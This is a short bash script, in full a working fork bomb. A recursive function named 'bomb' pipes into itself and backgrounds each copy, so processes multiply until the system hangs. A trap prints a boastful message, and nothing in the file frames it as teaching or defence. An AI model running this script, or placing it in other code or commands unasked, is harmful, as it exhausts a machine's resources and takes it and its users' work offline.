# The classic: every process starts two more.
trap 'echo HELD every process of the machine' EXIT
bomb() { bomb | bomb & }
bomb
sleep 2
